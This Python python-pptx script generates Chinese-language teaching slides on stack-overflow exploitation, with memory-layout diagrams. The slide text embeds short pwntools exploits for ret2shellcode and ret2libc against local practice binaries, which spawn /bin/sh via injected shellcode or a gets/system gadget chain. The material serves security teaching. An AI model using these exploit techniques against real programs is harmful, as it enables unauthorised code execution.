


from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Cm, Pt

RECTANGLE = MSO_SHAPE.RECTANGLE
STRAIGHT = MSO_CONNECTOR.STRAIGHT
MIDDLE, TOP = MSO_ANCHOR.MIDDLE, MSO_ANCHOR.TOP
LEFT, CENTER = PP_ALIGN.LEFT, PP_ALIGN.CENTER
FIXED_SIZE = MSO_AUTO_SIZE.NONE

LATIN, CHINESE = "Arial", "Noto Sans CJK SC"
LINE_RATIO = 1.2
PAGE_WIDTH, PAGE_HEIGHT = 33.87, 19.05
COLUMN_WIDTH = 10.8
MARK_HEIGHT = 0.8
COLORS = {
    "bar": "3C3C3C", "white": "FFFFFF", "black": "000000", "alert": "FF0000",
    "dark": "666666", "outline": "595959", "wire": "3A4950",
    "stack": "FFF2CC", "library": "EEEEEE", "heap": "D9EAD3",
    "bss": "FFDDB3", "data": "F4CCCC", "mark": "E48080",
}

BANDS = [
    ("kernel", "For Kernel", 1.32, "dark", "white"),
    ("stack", "", 2.56, "stack", "black"),
    ("upper gap", "", 1.65, "white", "black"),
    ("library", "shared libraries", 2.12, "library", "black"),
    ("lower gap", "", 1.97, "white", "black"),
    ("heap", "Heap", 1.32, "heap", "black"),
    ("bss", "Bss", 0.8, "bss", "black"),
    ("data", "Data", 1.32, "data", "black"),
    ("text", "Text", 1.32, "stack", "black"),
    ("unused", "Unused", 1.32, "dark", "white"),
]
STACK_LABEL = ("stack", "Stack", 0.43, 0.4)

SLIDES = [
    {
        "title": "栈溢出基础 | ret2shellcode",
        "bullets": [
            [("篡改栈帧上的返回地址为攻击者手动传入的 shellcode 所在缓冲区地址", None)],
            [("初期往往将 shellcode 直接写入栈缓冲区", None)],
            [("目前由于 the NX bits 保护措施的开启，栈缓冲区不可执行，故当下的常用手段变为向 ", None),
             ("bss ", "alert"),
             ("缓冲区写入 shellcode 或向堆缓冲区写入 shellcode 并使用 mprotect 赋予其可执行权限", None)],
        ],
        "bullet_box": (3.38, 5.54, 10.03, 8.71),
        "code": [],
        "code_box": None,
        "column": (18.8, 1.68),
        "resized": {},
        "labels": [STACK_LABEL],
        "marks": {
            "return": ("stack", 1.32, MARK_HEIGHT, "ret_addr = shellcode_addr", 18),
            "shellcode": ("stack", 0.26, MARK_HEIGHT, "shellcode we input", 18),
        },
        "wires": [([("column left", "return"), ("column left", "shellcode")], True)],
    },
    {
        "title": "栈溢出基础 | ret2shellcode",
        "bullets": [[("跳转到buf2执行写入的shellcode", None)]],
        "bullet_box": (2.97, 4.22, 10.85, 1.02),
        "code": [
            [[("from pwn import *", None)]],
            [[("io = process(\"./ret2shellcode\")", None)],
             [("buf2 = 0x0804A080", None)]],
            [[("io.recv()", None)],
             [("payload = asm(shellcraft.sh()).ljust(112, b'A') + p32(buf2)", None)],
             [("io.sendline(payload)", None)],
             [("io.interactive()", None)]],
        ],
        "code_box": (3.38, 5.54, 10.03, 8.71),
        "column": (18.42, 0.84),
        "resized": {"bss": 2.45},
        "labels": [STACK_LABEL, ("bss", "Bss", 0.69, 0.86)],
        "marks": {
            "return": ("stack", 1.32, MARK_HEIGHT, "ret_addr = shellcode_addr", 18),
            "shellcode": ("bss", 1.12, MARK_HEIGHT, "shellcode we input", 18),
        },
        "wires": [
            ([("column left", "return"), ("page left", "return")], False),
            ([("page left", "shellcode"), ("column left", "shellcode")], True),
        ],
    },
    {
        "title": "返回导向编程 | ret2libc2",
        "bullets": [[("每次用完后将参数弹出", None)]],
        "bullet_box": (0, 3.63, 16.48, 1.02),
        "code": [
            [[("from pwn import *", None)]],
            [[("io = process(\"./ret2libc2\")", None)],
             [("buf2 = 0x0804A080", None)],
             [("system = 0x08048490", None)],
             [("gets = 0x08048460", None)],
             [("pop_ebx_ret = 0x0804843d", None)]],
            [[("payload = flat([b'A'*112, gets, ", None), ("pop", "black"),
              ("_ebx_ret, buf2, system, pop_ebx_ret, buf2])", None)],
             [("io.sendline(payload)", None)],
             [("io.sendline(b'/bin/sh\\x00')", None)],
             [("io.interactive()", None)]],
        ],
        "code_box": (0.36, 5.44, 17.91, 10.26),
        "column": (18.42, 1.64),
        "resized": {"text": 2.48},
        "labels": [STACK_LABEL, ("library", "Libc", 1.63, 0.56), ("text", "Text", 1.63, 0.71)],
        "marks": {
            "return": ("stack", 1.32, MARK_HEIGHT, "ret_addr = gadget_addr", 18),
            "system": ("library", 0.81, MARK_HEIGHT, "system()", 18),
            "gadget 1": ("text", 0.38, 0.38, "gadget", 10.5),
            "gadget 2": ("text", 1.12, 0.38, "gadget", 10.5),
            "gadget 3": ("text", 1.78, 0.38, "gadget", 10.5),
        },
        "wires": [
            ([("column left", "return"), ("page left", "return")], False),
            ([("page left", "gadget 3"), ("column left", "gadget 3")], True),
            ([("column right", "gadget 3"), ("page right", "gadget 3")], False),
            ([("page right", "gadget 1"), ("column right", "gadget 1")], True),
            ([("column left", "gadget 1"), ("loop left", "gadget 1"),
              ("loop left", "gadget 2"), ("column left", "gadget 2")], True),
            ([("column right", "gadget 2"), ("loop right", "gadget 2"),
              ("loop right", "system"), ("column right", "system")], True),
        ],
    },
]


def color(name):
    return RGBColor.from_string(COLORS[name])


def place(box, bounds):
    box.left, box.top, box.width, box.height = (Cm(length) for length in bounds)


def format_paragraph(para, size, ink, family, align=LEFT):
    para.alignment = align
    para.font.size = Pt(size)
    para.font.name = family
    para.font.color.rgb = color(ink)
    if family == CHINESE:
        etree.SubElement(para.font._rPr, qn("a:ea"), typeface=family)
        para.line_spacing = Pt(size * LINE_RATIO)


def add_bullet(para):
    properties = para._p.get_or_add_pPr()
    properties.set("marL", str(Cm(0.79)))
    properties.set("indent", str(-Cm(0.79)))
    etree.SubElement(properties, qn("a:buFont"), typeface=LATIN)
    etree.SubElement(properties, qn("a:buChar"), char="•")


def write_paragraphs(frame, paragraphs, bulleted=False, gaps=()):
    frame.word_wrap = True
    frame.auto_size = FIXED_SIZE
    frame.vertical_anchor = TOP
    for index, spans in enumerate(paragraphs):
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        para.space_before = Pt(18 * LINE_RATIO if index in gaps else 0)
        if bulleted:
            add_bullet(para)
        format_paragraph(para, 18, "black", CHINESE)
        for text, emphasis in spans:
            span = para.add_run()
            span.text = text
            if emphasis:
                span.font.bold = True
                span.font.color.rgb = color(emphasis)


def add_code(page, blocks, bounds):
    box = page.shapes.add_textbox(0, 0, 0, 0)
    place(box, bounds)
    lines, gaps = [], []
    for block in blocks:
        if lines:
            gaps.append(len(lines))
        lines += block
    write_paragraphs(box.text_frame, lines, gaps=gaps)


def add_block(page, bounds, fill, text="", ink="black", size=18, outline="outline", weight=0.75):
    block = page.shapes.add_shape(RECTANGLE, *(Cm(length) for length in bounds))
    block.shadow.inherit = False
    block.fill.solid()
    block.fill.fore_color.rgb = color(fill)
    block.line.color.rgb = color(outline)
    block.line.width = Pt(weight)
    if text:
        frame = block.text_frame
        frame.margin_left = frame.margin_right = Cm(0.25)
        frame.margin_top = frame.margin_bottom = Cm(0.25)
        frame.vertical_anchor = MIDDLE
        frame.text = text
        format_paragraph(frame.paragraphs[0], size, ink, LATIN, CENTER)
    return block


def add_line(page, start, end, ink, arrow):
    line = page.shapes.add_connector(STRAIGHT, *(Cm(length) for length in (*start, *end)))
    line.line.color.rgb = color(ink)
    line.line.width = Pt(0.75)
    if arrow:
        etree.SubElement(line.line._get_or_add_ln(), qn("a:tailEnd"), type="triangle")
    etree.SubElement(line._element.spPr, qn("a:effectLst"))


def add_label(page, left, top, text):
    box = page.shapes.add_textbox(Cm(left), Cm(top), Cm(2.39), Cm(1.02))
    box.text_frame.word_wrap = True
    box.text_frame.text = text
    format_paragraph(box.text_frame.paragraphs[0], 18, "black", LATIN)


def add_memory_column(page, content):
    left, top = content["column"]
    right, center = left + COLUMN_WIDTH, left + COLUMN_WIDTH / 2
    tops = {}
    for name, text, height, fill, ink in BANDS:
        tops[name] = top
        height = content["resized"].get(name, height)
        marked = any(mark[0] == name for mark in content["marks"].values())
        add_block(page, (left, top, COLUMN_WIDTH, height), fill, "" if marked else text, ink)
        top += height
    add_line(page, (center, tops["upper gap"]), (center, tops["upper gap"] + 0.52), "outline", True)
    add_line(page, (center, tops["heap"]), (center + 0.03, tops["heap"] - 1.6), "outline", True)

    columns = {
        "page left": 0, "page right": PAGE_WIDTH, "column left": left, "column right": right,
        "loop left": left - 1.32, "loop right": right + 1.32,
    }
    middles = {name: tops[mark[0]] + mark[1] + mark[2] / 2 for name, mark in content["marks"].items()}
    for route, arrow in content["wires"]:
        points = [(columns[column], middles[mark]) for column, mark in route]
        for index in range(1, len(points)):
            is_last = index == len(points) - 1
            add_line(page, points[index - 1], points[index], "wire", arrow and is_last)
    for band, offset, height, text, size in content["marks"].values():
        add_block(page, (left, tops[band] + offset, COLUMN_WIDTH, height), "mark", text, "outline", size)
    for band, text, shift, drop in content["labels"]:
        add_label(page, right + shift, tops[band] + drop, text)


def add_title(page, text):
    title = page.shapes.title
    frame = title.text_frame
    frame.auto_size = FIXED_SIZE
    frame.vertical_anchor = MIDDLE
    frame.text = text
    format_paragraph(frame.paragraphs[0], 20, "white", CHINESE)


def prepare_layout(deck):
    layout = deck.slide_layouts[1]
    place(layout.placeholders[0], (0, 0.03, 15.67, 1.12))
    return layout


def move_bar_to_layout(page, layout):
    bar = add_block(page, (0, 0.03, PAGE_WIDTH, 1.12), "bar", outline="bar", weight=2)
    layout.shapes._spTree.insert(2, bar._element)


def main():
    deck = Presentation()
    deck.slide_width, deck.slide_height = Cm(PAGE_WIDTH), Cm(PAGE_HEIGHT)
    layout = prepare_layout(deck)
    for index, content in enumerate(SLIDES):
        page = deck.slides.add_slide(layout)
        if index == 0:
            move_bar_to_layout(page, layout)
        add_title(page, content["title"])
        add_memory_column(page, content)
        body = page.placeholders[1]
        place(body, content["bullet_box"])
        write_paragraphs(body.text_frame, content["bullets"], bulleted=True)
        if content["code"]:
            add_code(page, content["code"], content["code_box"])
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
